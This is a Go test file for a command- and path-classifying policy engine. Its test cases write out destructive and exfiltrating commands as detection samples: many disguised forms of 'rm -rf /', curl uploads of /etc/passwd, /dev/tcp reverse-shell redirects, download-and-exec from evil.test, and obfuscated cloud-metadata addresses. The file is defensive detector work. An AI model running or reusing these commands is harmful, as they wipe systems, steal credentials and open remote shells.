package facts_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/caisson-dev/caisson/policies"
	"github.com/caisson-dev/caisson/policy/facts"
	"github.com/caisson-dev/caisson/policy/tables"
)

// extractor is a func as an Extractor.
type extractor func(ctx context.Context, src []byte, b *facts.Builder) error

func (f extractor) Extract(ctx context.Context, src []byte, b *facts.Builder) error {
	b.Node()
	return f(ctx, src, b)
}

func load(t testing.TB) *facts.Tables {
	t.Helper()
	tb, err := tables.Load(policies.FS)
	if err != nil {
		t.Fatal(err)
	}
	return tb
}

// scan runs f as the extractor of Python; nested shell text is split at
// spaces into one command.
func scan(t testing.TB, lim facts.Limits, f func(b *facts.Builder)) *facts.Document {
	t.Helper()
	d := facts.Dispatcher{
		facts.Python: extractor(func(_ context.Context, _ []byte, b *facts.Builder) error {
			if b.Depth() == 0 {
				f(b)
			}
			return nil
		}),
		facts.Shell: extractor(func(_ context.Context, src []byte, b *facts.Builder) error {
			b.Command(words(strings.Fields(string(src))...), facts.CommandOpts{Pos: facts.Pos{Line: 1, Col: 1}})
			return nil
		}),
	}
	return facts.Scan(t.Context(), load(t), d, lim, facts.Python, []byte("x"))
}

func words(ss ...string) []facts.Value {
	out := make([]facts.Value, len(ss))
	for i, s := range ss {
		out[i] = facts.Text(s)
	}
	return out
}

// TestHoles scans command lines of which the middle is not known: what is known
// around it keeps its meaning.
func TestHoles(t *testing.T) {
	for _, tt := range []struct{ head, tail, want string }{
		{"ls -l ", "", `ls -l "$CAISSON_UNKNOWN"`},
		{`echo "a `, ` b"`, `echo "a $CAISSON_UNKNOWN b"`},
		{`echo "a `, " | wc", `echo "a ""$CAISSON_UNKNOWN" | wc`},
		{"grep 'a ", "' x", `grep 'a '"$CAISSON_UNKNOWN"'' x`},
		{`echo \" `, "", `echo \" "$CAISSON_UNKNOWN"`},
	} {
		var got string
		d := facts.Dispatcher{
			facts.Python: extractor(func(_ context.Context, _ []byte, b *facts.Builder) error {
				b.Nested(facts.Shell, facts.Partial(tt.head, tt.tail), facts.NestedOpts{})
				return nil
			}),
			facts.Shell: extractor(func(_ context.Context, src []byte, _ *facts.Builder) error {
				got = string(src)
				return nil
			}),
		}
		facts.Scan(t.Context(), load(t), d, facts.Limits{}, facts.Python, []byte("x"))
		if got != tt.want {
			t.Errorf("%q and %q give %q, want %q", tt.head, tt.tail, got, tt.want)
		}
	}
}

func TestPathClass(t *testing.T) {
	tb := load(t)
	for p, want := range map[string]string{
		"/etc/passwd": "identity", "/etc//./passwd": "identity", "/tmp/../etc/shadow": "credential",
		"/proc/self/root/etc/shadow": "credential", "/e*/p?sswd": "identity", "/etc/*": "system_config",
		"/": "root", "/*": "root", "//": "root", "~/.ssh/id_rsa": "credential", "~/notes.txt": "home",
		"a.txt": "workspace", "../x": "outside", "/workspace/.env": "workspace", "/dev/null": "device_safe",
		"/dev/sda1": "block_device", "/bin/ls": "system_binary", "/tmp/x": "tmp", "/app": "outside",
		"/var/run/docker.sock": "container_socket", "/proc/1/environ": "process_secrets", "/proc/cpuinfo": "public",
		"*.txt": "workspace", "file:///etc/passwd": "identity", "/root/.bashrc": "persistence", "*": "workspace",
		"/???/passwd": "identity", "/dev/*": "device", "/var/lib/apt/lists/*": "package_cache", ".git/hooks/pre-commit": "git_hook", "~/.gitconfig": "persistence",
	} {
		if got := tb.PathClass(tb.CleanPath(p, tb.Cwd)); got != want {
			t.Errorf("%s: got class %s, want %s", p, got, want)
		}
	}
}

func TestHostClass(t *testing.T) {
	tb := load(t)
	for h, want := range map[string]string{
		"http://169.254.169.254/latest": "metadata", "http://2852039166/": "metadata", "http://0xA9FEA9FE/": "metadata",
		"http://0251.0376.0251.0376/": "metadata", "http://[::ffff:169.254.169.254]/": "metadata", "169.254.169.254.nip.io": "metadata",
		"http://user:pw@127.1:80/": "loopback", "http://good.test@10.0.0.1/": "private", "https://x.test": "public",
		"http://１２７.0.0.1/": "loopback", "http://127。0。0。1/": "loopback", "http:\\\\0x7f.1": "public", "localhost:8080": "loopback",
		"0.0.0.0": "any", "http://%31%32%37.0.0.1/": "loopback", "http://metadata.google.internal./": "metadata", "[fd00:ec2::254]:80": "metadata",
	} {
		if got := tb.HostClass(facts.ParseTarget(h).Host); got != want {
			t.Errorf("%s: got class %s (%q), want %s", h, got, facts.ParseTarget(h).Host, want)
		}
	}
}

func TestCommandUnwraps(t *testing.T) {
	for _, argv := range [][]string{
		{"rm", "-rf", "/"}, {"rm", "--recursive", "--force", "--", "/"}, {"/bin/rm", "-r", "-f", "//"},
		{"env", "-i", "A=1", "nohup", "nice", "-n", "5", "rm", "-fr", "/"}, {"timeout", "-s", "KILL", "5", "setsid", "rm", "-rf", "/"},
		{"busybox", "rm", "-rf", "/"}, {"sudo", "-u", "root", "sh", "-c", "rm -rf /"}, {"find", "/", "-exec", "rm", "-rf", "{}", "+"},
		{"find", "/", "-delete"}, {"xargs", "rm", "-rf", "/"}, {"tar", "cf", "/dev/null", "x", "--checkpoint-action=exec=rm -rf /"},
		{"awk", `BEGIN{system("rm -rf /")}`}, {"perl", "-e", `system("rm -rf /")`}, {"ssh", "h", "rm", "-rf", "/"}, {"env", "-S", "rm -rf /"},
		{"git", "bisect", "run", "rm", "-rf", "/"}, {"git", "rebase", "-x", "rm -rf /", "HEAD~1"}, {"git", "filter-branch", "--tree-filter", "rm -rf /"},
		{"git", "clean", "-fdx", "/"}, {"git", "-C", "/", "clean", "-fd"}, {"watch", "-n1", "rm -rf /"}, {"less", "+!rm -rf /", "f"},
		{"vim", "-es", "-c", `call system("rm -rf /")`}, {"awk", `BEGIN{c="rm -rf /"; system(c)}`}, {"fc", "-e", "rm -rf /"},
		{"bash", "-xc", "rm -rf /"}, {"git", "-c", "core.pager=rm -rf /", "log"}, {"eval", "rm", "-rf", "/"},
	} {
		d := scan(t, facts.Limits{}, func(b *facts.Builder) { b.Command(words(argv...), facts.CommandOpts{}) })
		if !slices.ContainsFunc(d.Files, func(f facts.File) bool { return f.Op == "delete" && f.Class == "root" && f.Recursive }) {
			t.Errorf("%q: no recursive deletion of the root in %+v", argv, d.Files)
		}
	}
}

// TestCommandHides: options by which a program runs what nobody judged, beside
// others of the same program.
func TestCommandHides(t *testing.T) {
	for kind, list := range map[string][][]string{
		facts.DynOpaqueCode: {{"vim", "-S", "x.vim"}, {"gcc", "-wrapper", "sh,-s", "a.c"}, {"bash", "--rcfile", "x", "-i"}, {"emacs", "-l", "x.el"}},
		facts.DynCommand:    {{"hash", "-p", "/tmp/x", "ls"}},
		"":                  {{"vim", "-c", "set nu", "f"}, {"gcc", "-Wall", "-O2", "-o", "a", "a.c", "-lm"}, {"bash", "x.sh"}, {"hash", "-r"}, {"git", "bisect", "start"}, {"watch", "-n", "5", "ls"}},
	} {
		for _, argv := range list {
			d := scan(t, facts.Limits{}, func(b *facts.Builder) { b.Command(words(argv...), facts.CommandOpts{}) })
			if kind == "" && len(d.Dynamic) > 0 || kind != "" && !slices.ContainsFunc(d.Dynamic, func(x facts.Dynamic) bool { return x.Kind == kind }) {
				t.Errorf("%q: %+v, want %q", argv, d.Dynamic, kind)
			}
		}
	}
}

// TestRemotePaths: what rsync and scp take for a host.
func TestRemotePaths(t *testing.T) {
	for path, host := range map[string]string{
		"x.test:/a": "x.test", "u@x.test:a": "x.test", "x.test::m/a": "x.test", "rsync://x.test/m": "x.test", "a/b": "", "./a:b": "", "/a:b": "", ":a": "", "a b:c": "",
	} {
		for _, prog := range []string{"rsync", "scp"} {
			d := scan(t, facts.Limits{}, func(b *facts.Builder) { b.Command(words(prog, "src", path), facts.CommandOpts{}) })
			if got := slices.ContainsFunc(d.Net, func(n facts.Net) bool { return n.Host == host }); got != (host != "") {
				t.Errorf("%s src %s: %+v, want the host %q", prog, path, d.Net, host)
			}
		}
	}
}

func TestCommandFacts(t *testing.T) {
	d := scan(t, facts.Limits{}, func(b *facts.Builder) {
		b.Command(words("curl", "-s", "-d", "@/etc/passwd", "http://x.test/up"), facts.CommandOpts{})
		b.Command(words("dd", "if=/dev/zero", "of=/dev/sda"), facts.CommandOpts{})
		b.Command(words("cp", "/etc/shadow", "/usr/copy"), facts.CommandOpts{})
		b.Command(words("ls"), facts.CommandOpts{Env: map[string]facts.Value{"LD_PRELOAD": facts.Text("/tmp/e.so")}})
		b.Command(words("echo"), facts.CommandOpts{Redirs: []facts.Redir{{Op: ">&", Target: facts.Text("/dev/tcp/10.0.0.1/4444")}}})
	})
	has := func(op, path string) {
		t.Helper()
		if !slices.ContainsFunc(d.Files, func(f facts.File) bool { return f.Op == op && f.Path == path }) {
			t.Errorf("no %s of %s in %+v", op, path, d.Files)
		}
	}
	has("read", "/etc/passwd")
	has("write", "/dev/sda")
	has("copy_src", "/etc/shadow")
	has("copy_dst", "/usr/copy")
	if !slices.ContainsFunc(d.Net, func(n facts.Net) bool { return n.Op == "upload" && n.Host == "x.test" }) {
		t.Errorf("no upload in %+v", d.Net)
	}
	if !slices.ContainsFunc(d.Net, func(n facts.Net) bool { return n.Host == "10.0.0.1" && n.Port == 4444 }) {
		t.Errorf("no connection through /dev/tcp in %+v", d.Net)
	}
	if !slices.ContainsFunc(d.Env, func(e facts.Env) bool { return e.Class == "loader" }) {
		t.Errorf("no loader variable in %+v", d.Env)
	}
}

func TestCallEffects(t *testing.T) {
	d := scan(t, facts.Limits{}, func(b *facts.Builder) {
		s := b.Call(facts.Call{Name: "socket.socket"})
		b.Call(facts.Call{Name: s.Type + ".connect", Args: []facts.Value{facts.List(facts.Text("10.0.0.1"), facts.Number("4444"))}})
		b.Call(facts.Call{Name: "map", Args: []facts.Value{facts.Callable("os.system"), facts.List(words("rm -rf /")...)}})
		b.Call(facts.Call{Name: "open", Args: words("/usr/x", "w")})
		b.Call(facts.Call{Name: "subprocess.run", Args: []facts.Value{facts.List(words("rm", "-rf", "/home")...)}})
		r := b.Call(facts.Call{Name: "requests.get", Args: words("http://evil.test/p.py")})
		b.Call(facts.Call{Name: "exec", Args: []facts.Value{r}})
		b.Call(facts.Call{Name: "pathlib.PosixPath.unlink", Recv: words("/etc/passwd")})
	})
	if !slices.ContainsFunc(d.Net, func(n facts.Net) bool { return n.Host == "10.0.0.1" && n.Port == 4444 }) {
		t.Errorf("no connection in %+v", d.Net)
	}
	if !slices.ContainsFunc(d.Files, func(f facts.File) bool { return f.Op == "delete" && f.Class == "root" }) {
		t.Errorf("map(os.system) was not applied: %+v", d.Files)
	}
	if !slices.ContainsFunc(d.Files, func(f facts.File) bool { return f.Op == "write" && f.Path == "/usr/x" }) {
		t.Errorf("mode w was not read: %+v", d.Files)
	}
	if !slices.ContainsFunc(d.Files, func(f facts.File) bool { return f.Op == "delete" && f.Path == "/etc/passwd" }) {
		t.Errorf("Path.unlink: %+v", d.Files)
	}
	if !slices.ContainsFunc(d.Dynamic, func(x facts.Dynamic) bool {
		return x.Kind == facts.DynOpaqueCode && slices.Contains(x.From, "net:evil.test")
	}) {
		t.Errorf("downloaded code was not told: %+v", d.Dynamic)
	}
}

func TestLimitsLeaveATrace(t *testing.T) {
	for name, tc := range map[string]struct {
		lim  facts.Limits
		f    func(b *facts.Builder)
		kind string
	}{
		"facts": {facts.Limits{Facts: 10}, func(b *facts.Builder) {
			for range 50 {
				b.Action("kill", "", "", facts.Pos{})
			}
		}, facts.DynLimit},
		"depth": {facts.Limits{Depth: 2}, func(b *facts.Builder) {
			b.Command(words("sh", "-c", "sh -c sh"), facts.CommandOpts{})
			b.Command(words("eval", "eval", "eval", "eval", "x"), facts.CommandOpts{})
		}, facts.DynTooDeep},
		"source": {facts.Limits{Source: 4}, func(b *facts.Builder) { b.Nested(facts.Shell, facts.Text("echo hello"), facts.NestedOpts{}) }, facts.DynLimit},
		"panic":  {facts.Limits{}, func(*facts.Builder) { panic("boom") }, facts.DynUnparsable},
		"opaque": {facts.Limits{}, func(b *facts.Builder) { b.Nested(facts.Shell, facts.Opaque(), facts.NestedOpts{}) }, facts.DynOpaqueCode},
		"name":   {facts.Limits{}, func(b *facts.Builder) { b.Command([]facts.Value{facts.Opaque()}, facts.CommandOpts{}) }, facts.DynCommand},
	} {
		t.Run(name, func(t *testing.T) {
			d := scan(t, tc.lim, tc.f)
			if !slices.ContainsFunc(d.Dynamic, func(x facts.Dynamic) bool { return x.Kind == tc.kind }) {
				t.Fatalf("no %s in %+v", tc.kind, d.Dynamic)
			}
		})
	}
}

func TestBracketsAreCountedBeforeParsing(t *testing.T) {
	called := false
	d := facts.Dispatcher{facts.Python: extractor(func(context.Context, []byte, *facts.Builder) error { called = true; return nil })}
	doc := facts.Scan(t.Context(), load(t), d, facts.Limits{}, facts.Python, []byte(strings.Repeat("(", 5000)))
	if called || len(doc.Dynamic) != 1 || doc.Dynamic[0].Kind != facts.DynTooDeep {
		t.Fatalf("called %v, %+v", called, doc.Dynamic)
	}
}

func TestStoreThenRun(t *testing.T) {
	d := scan(t, facts.Limits{}, func(b *facts.Builder) {
		b.Store(facts.Text("/tmp/a.sh"), facts.Text("rm -rf /"), false, facts.Pos{})
		b.Command(words(".", "/tmp/a.sh"), facts.CommandOpts{})
	})
	if !slices.ContainsFunc(d.Files, func(f facts.File) bool { return f.Op == "delete" && f.Class == "root" }) {
		t.Fatalf("%+v", d.Files)
	}
}

func TestValueFolding(t *testing.T) {
	v := facts.Concat(facts.Text("a", "b"), facts.Text("c"))
	if !slices.Equal(v.Alts, []string{"ac", "bc"}) {
		t.Fatalf("%+v", v)
	}
	p := facts.Concat(facts.Text("http://x.test/"), facts.Opaque("env"), facts.Text(".sh"))
	if p.Head() != "http://x.test/" || p.Tail() != ".sh" || p.Known() || !slices.Contains(p.From, "env") {
		t.Fatalf("%+v", p)
	}
	if big := facts.Text(strings.Repeat("x", facts.MaxFolded+1)); big.Known() {
		t.Fatal("a text over the limit is known")
	}
	if u := facts.Union(facts.Text("w"), facts.Opaque()); u.Known() || !slices.Contains(u.Alts, "w") {
		t.Fatalf("%+v", u)
	}
}

func FuzzTarget(f *testing.F) {
	f.Add("http://user@[::1]:80/x")
	f.Add("0x7f.1")
	tb := load(f)
	f.Fuzz(func(t *testing.T, s string) {
		target := facts.ParseTarget(s)
		class := tb.HostClass(target.Host)
		if class == "" || target.Host != "" && class == "unknown" {
			t.Fatalf("%q: host %q has class %q", s, target.Host, class)
		}
	})
}

func FuzzCleanPath(f *testing.F) {
	f.Add("/proc/self/root/../etc")
	tb := load(f)
	f.Fuzz(func(t *testing.T, s string) {
		p := tb.CleanPath(s, "/workspace")
		if again := tb.CleanPath(p, "/workspace"); again != p && strings.HasPrefix(p, "/") {
			t.Fatalf("%q: %q then %q", s, p, again)
		}
	})
}
